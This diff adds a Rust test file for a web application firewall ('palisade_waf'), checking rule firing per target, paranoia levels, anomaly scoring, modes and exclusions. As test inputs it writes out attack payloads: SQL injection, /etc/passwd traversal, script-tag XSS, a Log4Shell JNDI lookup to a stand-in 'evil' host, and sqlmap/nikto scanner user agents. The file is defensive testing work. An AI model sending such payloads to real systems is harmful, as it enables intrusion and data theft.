@@ -1,0 +1,222 @@
+//! Engine tests over the fixture rules: which rules fire on which targets, paranoia,
+//! scoring, modes and exclusions.
+
+mod common;
+
+use common::*;
+use palisade_waf::{Verdict, PolicyConfig, Policy, PolicyError, ExclusionConfig};
+
+#[test]
+fn fixture_rules_pass_their_embedded_tests() {
+    let rs = fixtures();
+    let report = rs.run_embedded_tests();
+    assert!(report.passed(), "{report}");
+    assert!(report.tests >= 40, "{report}");
+}
+
+#[test]
+fn benign_request_scores_zero() {
+    let rs = fixtures();
+    let p = default_policy(&rs);
+    let i = Req::get("/search?q=O%27Brien+select+a+plan&page=2&sort=name")
+        .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")
+        .header("cookie", "sid=abc123; theme=dark")
+        .run(&rs, &p);
+    assert_eq!(i.score(), 0, "{:?}", i.matches());
+    assert_eq!(i.verdict(&p), Verdict::Allow);
+}
+
+#[test]
+fn sqli_in_query_arg_fires_on_that_arg() {
+    let rs = fixtures();
+    let p = default_policy(&rs);
+    let i = Req::get("/items?id=1%27%20or%20%271%27%3D%271&x=ok").run(&rs, &p);
+    assert_eq!(fired(&i), vec![(1001, "args:id".to_string())]);
+    assert_eq!(i.score(), 5);
+    assert_eq!(i.verdict(&p), Verdict::Block);
+    assert_eq!(i.classes(), vec!["sqli"]);
+}
+
+#[test]
+fn attacks_fire_in_every_head_target() {
+    let rs = fixtures();
+    let p = default_policy(&rs);
+    let cases: &[(Req, u32, &str)] = &[
+        (Req::get("/a/..%2f..%2fetc/passwd"), 3001, "path"),
+        (Req::get("/").header("cookie", "a=1; sess=1' or '1'='1"), 1001, "cookies:sess"),
+        (Req::get("/").header("referer", "http://x/?q=<script>alert(1)</script>"), 2001, "headers:referer"),
+        (Req::get("/").header("user-agent", "sqlmap/1.7"), 4001, "headers:user-agent"),
+        (Req::get("/").header("x-api-version", "${jndi:ldap://evil/a}"), 4005, "headers:x-api-version"),
+        (Req::get("/?%24where=1"), 4004, "args_names:$where"),
+    ];
+    for (req, id, target) in cases {
+        let i = req.run(&rs, &p);
+        assert!(
+            fired(&i).contains(&(*id, target.to_string())),
+            "rule {id} on {target}: got {:?}",
+            fired(&i)
+        );
+    }
+}
+
+#[test]
+fn a_rule_only_sees_its_targets() {
+    let rs = fixtures();
+    let p = default_policy(&rs);
+    // 4001 looks at the user agent only: the same word in an argument is fine.
+    let i = Req::get("/?tool=sqlmap").run(&rs, &p);
+    assert!(!ids(&i).contains(&4001));
+    // 1001 looks at user-agent and referer, not at other headers.
+    let i = Req::get("/").header("x-note", "1' or '1'='1").run(&rs, &p);
+    assert!(!ids(&i).contains(&1001), "{:?}", fired(&i));
+}
+
+#[test]
+fn paranoia_level_filters_rules() {
+    let rs = fixtures();
+    let req = Req::get("/?q=1%20AND%20SLEEP(5)").method("PROPFIND");
+    let p1 = default_policy(&rs);
+    let i = req.run(&rs, &p1);
+    assert!(!ids(&i).contains(&1003) && !ids(&i).contains(&4002), "{:?}", fired(&i));
+    let p2 = policy(&rs, "paranoia: 2");
+    let i = req.run(&rs, &p2);
+    assert!(ids(&i).contains(&1003), "{:?}", fired(&i));
+    assert!(ids(&i).contains(&4002), "{:?}", fired(&i));
+    assert_eq!(p1.active_rules() + 2, p2.active_rules());
+}
+
+#[test]
+fn scoring_adds_each_rule_once_and_threshold_decides() {
+    let rs = fixtures();
+    // 3001 (critical, 5) + 3002 (error, 4); the same rule on two args counts once.
+    let req = Req::get("/?a=../../etc/passwd&b=../x");
+    let p = policy(&rs, "threshold: 10");
+    let i = req.run(&rs, &p);
+    assert_eq!(ids(&i), vec![3001, 3002]);
+    assert_eq!(i.score(), 9);
+    assert_eq!(i.verdict(&p), Verdict::Allow);
+    let p = policy(&rs, "threshold: 9");
+    assert_eq!(req.run(&rs, &p).verdict(&p), Verdict::Block);
+}
+
+#[test]
+fn detect_mode_reports_but_does_not_block_and_off_inspects_nothing() {
+    let rs = fixtures();
+    let req = Req::get("/?q=<script>alert(1)</script>");
+    let p = policy(&rs, "mode: detect");
+    let i = req.run(&rs, &p);
+    assert!(i.score() >= 5);
+    assert_eq!(i.verdict(&p), Verdict::Detect);
+    let p = policy(&rs, "mode: off");
+    let i = req.run(&rs, &p);
+    assert_eq!(i.score(), 0);
+    assert!(i.matches().is_empty());
+    assert_eq!(i.verdict(&p), Verdict::Allow);
+}
+
+/// The same attack string placed in each target kind, for the exclusion tests.
+fn xss_everywhere() -> Vec<(common::Req, &'static str)> {
+    let x = "<script>alert(1)</script>";
+    vec![
+        (Req::get(&format!("/?comment={}", "%3Cscript%3Ealert(1)%3C/script%3E")), "query"),
+        (Req::post("/", "application/x-www-form-urlencoded", format!("comment={x}").as_bytes()), "form"),
+        (Req::post("/", "application/json", format!(r#"{{"comment":"{x}"}}"#).as_bytes()), "json"),
+        (
+            Req::post(
+                "/",
+                "multipart/form-data; boundary=XyZ",
+                format!("--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{x}\r\n--XyZ--\r\n").as_bytes(),
+            ),
+            "multipart",
+        ),
+        (Req::post("/", "application/xml", format!("<comment><![CDATA[{x}]]></comment>").as_bytes()), "xml"),
+        (Req::get("/").header("cookie", &format!("comment={x}")), "cookie"),
+    ]
+}
+
+#[test]
+fn rule_exclusion_on_a_target_applies_to_every_source_of_that_target() {
+    let rs = fixtures();
+    let base = default_policy(&rs);
+    let excl = policy(
+        &rs,
+        "exclusions:\n  - {rule_ids: [2001, 2002], targets: [\"args:comment\", \"cookies:comment\"]}\n",
+    );
+    for (req, label) in xss_everywhere() {
+        let before = req.run(&rs, &base);
+        assert!(
+            ids(&before).iter().any(|id| *id == 2001 || *id == 2002),
+            "{label}: attack not detected without exclusion: {:?}",
+            fired(&before)
+        );
+        let after = req.run(&rs, &excl);
+        let on_comment: Vec<_> = fired(&after)
+            .into_iter()
+            .filter(|(id, t)| (*id == 2001 || *id == 2002) && t.ends_with("comment"))
+            .collect();
+        assert!(on_comment.is_empty(), "{label}: exclusion ignored: {on_comment:?}");
+    }
+}
+
+#[test]
+fn target_only_exclusion_silences_all_rules_there_but_not_elsewhere() {
+    let rs = fixtures();
+    let p = policy(&rs, "exclusions:\n  - targets: [\"json:post.body\"]\n");
+    let body = br#"{"post":{"body":"1' or '1'='1 <script>x</script>","title":"ok"}}"#;
+    let i = Req::post("/", "application/json", body).run(&rs, &p);
+    assert!(fired(&i).iter().all(|(_, t)| t != "json:post.body"), "{:?}", fired(&i));
+    let body = br#"{"post":{"body":"fine","title":"1' or '1'='1"}}"#;
+    let i = Req::post("/", "application/json", body).run(&rs, &p);
+    assert!(fired(&i).contains(&(1001, "json:post.title".into())), "{:?}", fired(&i));
+}
+
+#[test]
+fn rule_and_tag_exclusions_turn_rules_off() {
+    let rs = fixtures();
+    let req = Req::get("/?q=1%27%20or%20%271%27%3D%271").header("user-agent", "nikto");
+    let p = policy(&rs, "exclusions:\n  - {rule_ids: [1001]}\n  - {tags: [scanner]}\n");
+    let i = req.run(&rs, &p);
+    assert!(ids(&i).is_empty(), "{:?}", fired(&i));
+}
+
+#[test]
+fn policy_errors_name_the_problem() {
+    let rs = fixtures();
+    let cfg = |ex: ExclusionConfig| PolicyConfig {
+        exclusions: vec![ex],
+        ..PolicyConfig::default()
+    };
+    let e = Policy::compile(&cfg(ExclusionConfig { rule_ids: vec![999], ..Default::default() }), &rs);
+    assert_eq!(e.err(), Some(PolicyError::UnknownRule(999)));
+    let e = Policy::compile(&cfg(ExclusionConfig { tags: vec!["nope".into()], ..Default::default() }), &rs);
+    assert_eq!(e.err(), Some(PolicyError::UnknownTag("nope".into())));
+    let e = Policy::compile(&cfg(ExclusionConfig { targets: vec!["argz:q".into()], ..Default::default() }), &rs);
+    assert_eq!(e.err(), Some(PolicyError::UnknownTarget("argz:q".into())));
+    let e = Policy::compile(&PolicyConfig { paranoia: 5, ..PolicyConfig::default() }, &rs);
+    assert_eq!(e.err().map(|e| e.to_string()), Some("paranoia 5 out of range (use 1, 2, 3 or 4)".into()));
+    let bad: Result<PolicyConfig, _> = serde_saphyr::from_str("mode: block\nparanoya: 2\n");
+    assert!(bad.is_err(), "unknown policy keys must be errors");
+}
+
+#[test]
+fn inspection_is_reusable_across_requests() {
+    let rs = fixtures();
+    let p = default_policy(&rs);
+    let mut out = palisade_waf::Inspection::new();
+    Req::get("/?q=<script>alert(1)</script>").run_into(&rs, &p, &mut out);
+    assert!(out.score() > 0);
+    Req::get("/?q=hello").run_into(&rs, &p, &mut out);
+    assert_eq!(out.score(), 0);
+    assert!(out.matches().is_empty());
+    Req::get("/?q=<script>alert(1)</script>").run_into(&rs, &p, &mut out);
+    assert!(out.score() > 0);
+}
+
+#[test]
+fn policy_knows_its_rule_set() {
+    let a = fixtures();
+    let b = fixtures();
+    let p = default_policy(&a);
+    assert!(p.is_for(&a));
+    assert!(!p.is_for(&b));
+}
